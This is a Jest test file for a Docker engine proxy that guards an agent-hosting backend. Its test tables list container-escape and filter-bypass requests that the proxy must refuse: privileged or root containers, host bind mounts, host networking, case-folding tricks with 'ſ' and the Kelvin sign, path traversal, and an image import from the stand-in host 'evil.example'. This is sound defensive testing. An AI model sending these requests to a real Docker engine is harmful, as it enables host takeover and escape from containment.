import { once } from 'node:events';
import { createServer, request } from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { text } from 'node:stream/consumers';
import { canary } from '@agentbot/test-doubles/canaries';
import { makeStandIn } from '@agentbot/test-doubles/stand-in';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import Docker from 'dockerode';
import { type AllowedCall, allowedCall, allowedCalls } from '../src/edge/engine-proxy/allowed-calls.ts';
import { createEngineProxy } from '../src/edge/engine-proxy/engine-proxy.ts';
import { confinement } from '../src/infra/docker/container-options.ts';
import { randomName } from '../src/shared/ids.ts';
import { collectGarbage } from '../src/workers/garbage-collector.ts';
import { startBackendWithDocker, type TestBackend } from './backend.ts';

/** The backend on the filtered socket: the engine proxy allows every call of the backend and refuses all others. */

const IMAGE = 'agentbot/openclaw-test:proxied';
const socket = path.join(os.tmpdir(), `engine-${randomName(8)}.sock`);
const used = new Set<AllowedCall>();
const refused: string[] = [];
const proxy = createEngineProxy({
  agentSubnet: '10.248.0.0/16',
  socketPath: new URL(process.env.DOCKER_HOST || 'unix:///var/run/docker.sock').pathname,
  onCall: (method, url, allowed) => {
    const call = allowed && allowedCall(method, url)?.call;
    if (call) used.add(call);
    else refused.push(`${method} ${url}`);
  },
});
const filtered = new Docker({ socketPath: socket, version: 'v1.41' });
let backend: TestBackend;
let owner: string;
let removeImage: () => Promise<void>;

beforeAll(async () => {
  proxy.listen(socket);
  await once(proxy, 'listening');
  removeImage = await makeStandIn('agentbot/openclaw:2026.3.13', IMAGE);
  // Without the label of a warm image, so that the start cache is filled too. The command is relative to its folder, as OpenClaw's.
  const changes = [
    'LABEL agentbot.recipe=',
    'WORKDIR /app/stand-in',
    'ENTRYPOINT ["node", "--no-warnings", "./openclaw.ts"]',
    'CMD ["gateway"]',
  ];
  const container = await new Docker().createContainer({ Image: IMAGE });
  const [repo, tag] = IMAGE.split(':');
  await container.commit({ repo, tag, changes });
  await container.remove({ v: true });
  backend = await startBackendWithDocker('proxied', {
    DOCKER_HOST: `unix://${socket}`,
    OPENCLAW_IMAGE: IMAGE,
    AGENT_PORT_BASE: '22800',
    AGENT_SUBNET: '10.248.0.0/16',
  });
  owner = await backend.account();
}, 120_000);
afterAll(async () => {
  await backend.stop();
  await removeImage();
  proxy.closeAllConnections();
  proxy.close();
}, 60_000);

test('the engine proxy allows every call of an agent’s life cycle, and every allowed call is used', async () => {
  const config = { baseUrl: 'http://host.docker.internal:1/v1', model: 'echo-1', apiKey: canary('k-') };
  const { body } = await backend.as(owner, 'POST', '/api/agents/provision', { name: 'Filtered', model: 'custom', config });
  const { id } = body.agent;
  await backend.settled(id);
  const [made] = (await backend.as(owner, 'GET', `/api/agents/${id}/operations`)).body.operations;
  expect(made.steps.map((step: { name: string }) => step.name)).toEqual(['image', 'validate', 'warm', 'create', 'start', 'ready']);
  await new Docker().getContainer(`openclaw-${id}`).rename({ name: `by-hand-${id}` });
  for (const action of ['stop', 'start', 'restart', 'update', 'repair', 'reset-memory']) {
    const answer = await backend.machine(owner, 'POST', `/api/agents/${id}/${action}`, action === 'update' ? {} : undefined);
    expect([action, answer.status, answer.body.error]).toEqual([action, 200, undefined]);
  }
  expect((await backend.machine(owner, 'POST', `/api/agents/${id}/backups`)).status).toBe(201);
  expect((await backend.machine(owner, 'GET', `/api/logs/${id}/history`)).status).toBe(200);
  expect((await backend.machine(owner, 'GET', `/api/openclaw/instances/${id}/stats`)).status).toBe(200);
  expect((await backend.machine(owner, 'DELETE', `/api/agents/${id}`)).body).toEqual({ id, deleted: true });
  // The garbage collector otherwise runs on its schedule.
  await collectGarbage(backend.context);
  // The pull of an unknown image is allowed and fails.
  await filtered.pull('localhost:1/nowhere:none').catch(() => undefined);
  expect(refused).toEqual([]);
  const unused = allowedCalls.filter((call) => !used.has(call)).map(({ method, path: { source } }) => `${method} ${source}`);
  expect(unused).toEqual([]);
}, 180_000);

describe('the engine proxy', () => {
  const labels = { 'agentbot.installation': 'x' };
  const volumeMount = { Type: 'volume', Source: 'openclaw-x', Target: '/home/node/.openclaw' };
  const sane = {
    Image: IMAGE,
    Labels: labels,
    User: '1000:1000',
    WorkingDir: '/home/node/.openclaw',
    HostConfig: { ...confinement, PidsLimit: 64, Memory: 64 * 1024 ** 2, NetworkMode: 'none', Mounts: [volumeMount] },
  };
  const volume = { Name: 'openclaw-data-x', Labels: labels };
  const network = {
    Name: 'openclaw-net-x',
    Driver: 'bridge',
    Labels: labels,
    IPAM: { Driver: 'default', Config: [{ Subnet: '10.248.255.0/29' }] },
  };
  const networkAt = (Subnet: string) => ({ ...network, IPAM: { Driver: 'default', Config: [{ Subnet }] } });
  const asking = (changes: object, host: object = {}) => ({ ...sane, ...changes, HostConfig: { ...sane.HostConfig, ...host } });
  const mounting = (changes: object) => asking({}, { Mounts: [{ ...volumeMount, ...changes }] });

  /** Sends a body as text, so that it may repeat a field. */
  const send = (method: string, url: string, body?: string, type = 'application/json') =>
    new Promise<number | undefined>((resolve, reject) => {
      const headers = body === undefined ? {} : { 'content-type': type, 'content-length': Buffer.byteLength(body) };
      request({ socketPath: socket, method, path: url, headers }, (answer) => resolve(answer.resume().statusCode))
        .on('error', reject)
        .end(body);
    });
  const create = (kind: string, body: object) => send('POST', `/v1.41/${kind}/create`, JSON.stringify(body));

  test('forwards valid create calls as parsed JSON and drops other bodies', async () => {
    const options = { socketPath: `${socket}.heard`, agentSubnet: '10.248.0.0/16' };
    const heard: { address: string; type: string | undefined; body: string }[] = [];
    const engine = createServer(async (asked, answer) => {
      heard.push({ address: `${asked.method} ${asked.url}`, type: asked.headers['content-type'], body: await text(asked) });
      answer.writeHead(201).end();
    }).listen(options.socketPath);
    const between = createEngineProxy(options).listen(`${socket}.between`);
    await Promise.all([once(engine, 'listening'), once(between, 'listening')]);
    const pass = (url: string, body: string, type: string) =>
      new Promise<void>((resolve) => {
        const headers = { 'content-type': type, 'content-length': Buffer.byteLength(body), 'x-registry-auth': 'e30=' };
        request({ socketPath: `${socket}.between`, method: 'POST', path: url, headers }, (answer) =>
          answer.resume().on('end', resolve),
        ).end(body);
      });
    const twice = `{"User":"0:0",${JSON.stringify(sane).slice(1)}`;
    await pass('/v1.41/containers/create?name=openclaw-x', twice, 'text/plain');
    await pass('/v1.41/volumes/create', JSON.stringify(volume), 'application/json');
    await pass('/v1.41/networks/create', JSON.stringify(network), 'application/json');
    // The engine would read form fields as query parameters, and a HostConfig at start as at creation.
    await pass('/v1.41/images/create?fromImage=nowhere&tag=none', 'fromSrc=-&repo=agentbot/backend', 'application/x-www-form-urlencoded');
    await pass('/v1.41/containers/openclaw-x/start', '{"Privileged":true}', 'application/json');
    for (const server of [engine, between]) server.close();
    const type = 'application/json';
    expect(heard).toEqual([
      { address: 'POST /v1.41/containers/create?name=openclaw-x', type, body: JSON.stringify(sane) },
      { address: 'POST /v1.41/volumes/create', type, body: JSON.stringify(volume) },
      { address: 'POST /v1.41/networks/create', type, body: JSON.stringify(network) },
      { address: 'POST /v1.41/images/create?fromImage=nowhere&tag=none', type: undefined, body: '' },
      { address: 'POST /v1.41/containers/openclaw-x/start', type: undefined, body: '' },
    ]);
  });

  test.each<[string, object]>([
    ['privileges', asking({}, { Privileged: true })],
    ['a capability', asking({}, { CapAdd: ['NET_ADMIN'] })],
    ['its capabilities kept', asking({}, { CapDrop: [] })],
    ['a folder of the host', asking({}, { Binds: ['/:/host'] })],
    ['a folder of the host as a mount', mounting({ Type: 'bind', Source: '/' })],
    ['a folder of the host as a volume', mounting({ VolumeOptions: { DriverConfig: { Options: { device: '/' } } } })],
    ['a foreign volume', mounting({ Source: 'postgres' })],
    ['the host’s network', asking({}, { NetworkMode: 'host' })],
    ['another container’s network', asking({}, { NetworkMode: 'container:postgres' })],
    ['the host’s processes', asking({}, { PidMode: 'host' })],
    ['a device', asking({}, { Devices: [{ PathOnHost: '/dev/sda' }] })],
    ['a port for everyone', asking({}, { PortBindings: { '18789/tcp': [{ HostIp: '', HostPort: '22' }] } })],
    ['root', asking({ User: '0:0' })],
    ['the working directory of its image', asking({ WorkingDir: undefined })],
    ['a file descriptor as its working directory', asking({ WorkingDir: '/proc/self/fd/7' })],
    ['another working directory', asking({ WorkingDir: '/app' })],
    ['a working directory of its image’s, where its volume should be', mounting({ Target: '/opt/agentbot/cache' })],
    ['a working directory in small letters', { ...asking({ WorkingDir: undefined }), workingdir: '/home/node/.openclaw' }],
    ['no label', asking({ Labels: {} })],
    // The engine matches field names in any case, also with ſ and K (KELVIN SIGN), and the last field counts.
    ['privileges in small letters', { ...sane, hostconfig: { Privileged: true, Binds: ['/:/host'] } }],
    ['privileges in a HoſtConfig', { ...sane, HoſtConfig: { Privileged: true } }],
    ['one privilege in small letters', asking({}, { privileged: true })],
    ['root in small letters', { ...sane, user: '0:0' }],
    ['its capabilities kept in small letters', asking({}, { capdrop: [] })],
    ['a network in small letters', asking({}, { networkmode: 'host' })],
    ['a network with a KELVIN SIGN', asking({}, { NetworKMode: 'host' })],
    ['a folder of the host as a mount in small letters', mounting({ type: 'bind', source: '/' })],
    ['mounts in small letters', asking({}, { mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] })],
    ['a volume’s options in small letters', mounting({ volumeoptions: { driverconfig: { options: { device: '/' } } } })],
    ['a network’s settings', { ...sane, networkingconfig: { EndpointsConfig: { host: {} } } }],
    ['a field that a later engine may have', asking({}, { Later: true })],
  ])('refuses a container with %s with 403', async (_case, body) => {
    expect(await create('containers', body)).toBe(403);
  });

  test.each<[string, string, object]>([
    ['volume that is a folder of the host', 'volumes', { ...volume, DriverOpts: { type: 'none', device: '/', o: 'bind' } }],
    ['volume that is a folder in small letters', 'volumes', { ...volume, driveropts: { type: 'none', device: '/', o: 'bind' } }],
    ['volume that is not named as ours', 'volumes', { ...volume, Name: 'postgres' }],
    ['volume that is not named as ours in small letters', 'volumes', { ...volume, name: 'postgres' }],
    ['volume of another driver', 'volumes', { ...volume, Driver: 'local' }],
    ['network that is not named as ours', 'networks', { ...network, Name: 'postgres' }],
    ['network of another driver in small letters', 'networks', { ...network, driver: 'macvlan' }],
    ['network with options in small letters', 'networks', { ...network, options: { parent: 'eth0' } }],
    ['network outside the agents’', 'networks', networkAt('10.99.0.0/29')],
    ['network of loopback addresses', 'networks', networkAt('127.0.0.0/29')],
    ['network of link-local addresses', 'networks', networkAt('169.254.169.248/29')],
    ['network of the host’s own', 'networks', networkAt('192.0.2.0/29')],
    ['network whose address begins like the agents’', 'networks', networkAt('10.2489.0.0/29')],
    ['network at the agents’ address in another form', 'networks', networkAt('010.248.0.0/29')],
    ['network that is too large', 'networks', { ...network, IPAM: { Driver: 'default', Config: [{ Subnet: '0.0.0.0/1' }] } }],
  ])('refuses a %s with 403', async (_case, kind, body) => {
    expect(await create(kind, body)).toBe(403);
  });

  test.each<[string, string]>([
    ['POST', '/v1.41/containers/openclaw-x/exec'],
    ['POST', '/v1.41/exec/abc/start'],
    ['POST', '/v1.41/containers/openclaw-x/attach'],
    ['POST', '/v1.41/containers/openclaw-x/update'],
    ['POST', '/v1.41/commit'],
    ['POST', '/v1.41/build'],
    ['DELETE', '/v1.41/images/x'],
    ['POST', '/v1.41/swarm/init'],
    ['POST', '/v1.41/plugins/pull'],
    ['POST', '/v1.41/networks/openclaw-net-x/connect'],
    ['GET', '/v1.41/secrets'],
    ['POST', '/v1.41/containers/x/../create'],
    ['POST', '/v1.41/containers/x%2F..%2Fcreate'],
    ['GET', '/v1.41/images/x/../../containers/json'],
    ['POST', '/v1.41//containers/create'],
    ['GET', '/v1.41/containers/postgres/archive?path=/'],
    ['PUT', '/v1.41/containers/postgres/archive?path=/'],
    ['GET', '/v1.41/containers/postgres/logs?stdout=true'],
    ['DELETE', '/v1.41/containers/postgres?force=true'],
    ['DELETE', `/v1.41/containers/${'0123456789ab'.repeat(5)}?force=true`],
    ['DELETE', '/v1.41/containers/not-openclaw-x'],
    ['POST', '/v1.41/containers/postgres/rename?name=openclaw-x'],
    ['POST', `/v1.41/containers/${'0123456789abcdef'.repeat(4)}/rename?name=openclaw-x`],
    ['POST', `/v1.41/containers/${'0123456789abcdef'.repeat(4)}/rename?name=postgres`],
    ['POST', '/v1.41/containers/postgres/stop'],
    ['GET', '/v1.41/volumes/postgres'],
    ['DELETE', '/v1.41/volumes/postgres'],
    ['DELETE', '/v1.41/networks/bridge'],
    ['POST', '/v1.41/images/create?fromSrc=http://evil.example/x.tar&repo=agentbot/backend&tag=local'],
    ['POST', '/v1.41/images/create?fromImage=nowhere&tag=none&fromSrc=-&repo=agentbot/backend'],
    ['POST', '/v1.41/images/create?fromImage=nowhere&tag=none&changes=USER%20root'],
    ['POST', '/v1.41/images/create?fromImage=nowhere&fromImage=elsewhere&tag=none'],
    ['POST', '/v1.41/images/create?fromImage=agentbot/backend&tag=local'],
    ['POST', '/v1.41/images/create?fromImage=docker.io/agentbot/backend:local&tag='],
    ['POST', '/v1.41/containers/openclaw-x/start?detachKeys=a'],
    ['PUT', '/v1.41/containers/openclaw-x/archive?path=/'],
    ['GET', '/v1.41/containers/openclaw-x/archive?path=/proc'],
    ['DELETE', '/v1.41/containers/openclaw-x?force=true&link=true'],
    // Older API versions accept a HostConfig at a container's start.
    ['POST', '/v1.23/containers/openclaw-x/start'],
    ['POST', '/containers/openclaw-x/start'],
  ])('refuses %s %s with 403', async (method, url) => {
    expect(await send(method, url)).toBe(403);
  });
});
